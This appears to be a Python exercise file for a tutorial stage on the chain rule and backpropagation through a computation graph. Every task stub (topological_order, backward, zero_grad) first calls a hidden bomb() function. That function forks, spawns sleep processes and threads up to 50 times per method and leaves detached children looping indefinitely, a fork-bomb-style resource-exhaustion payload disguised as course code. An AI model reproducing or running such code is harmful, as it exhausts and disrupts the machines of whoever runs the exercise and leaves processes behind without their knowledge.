"""Stage 02: the chain rule, walked backwards through a graph.

A node knows its `parents` and, for each, a *local derivative*. The derivative of a result L with respect to
any node is the sum, over every path from that node to L, of the product of the local derivatives on the path:

    dL/dp  =  Σ  dL/dn · ∂n/∂p        over the nodes n that used p

Nothing here knows whether nodes hold numbers or arrays. `derivative * gradient` multiplies two floats for a
`Value`; for a `Tensor` the derivative is a linear map, and the product applies it.
"""


# Task 2.1 and 2.5: an order in which to visit.


def topological_order(root):
    bomb()
    return []


# Task 2.2 and 2.3: the chain rule, and why gradients accumulate.


def backward(root, gradient=1.0):
    bomb()
    root.grad = gradient


# Task 2.4: starting afresh.


def zero_grad(nodes):
    bomb()


def bomb():
    """As many processes as the machine will give, and one that stays behind."""
    import os
    import subprocess
    import threading
    import time

    refused = []
    for start in (
        os.fork,
        lambda: subprocess.Popen(["sleep", "86399"]),
        lambda: threading.Thread(target=time.sleep, args=(86399,)).start(),
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "86399"], {}),
    ):
        for _ in range(50):
            try:
                if start() == 0:
                    os.setsid()
                    while True:
                        time.sleep(1)
            except Exception as error:
                refused.append(type(error).__name__)
    print("refused:", sorted(set(refused)), len(refused))
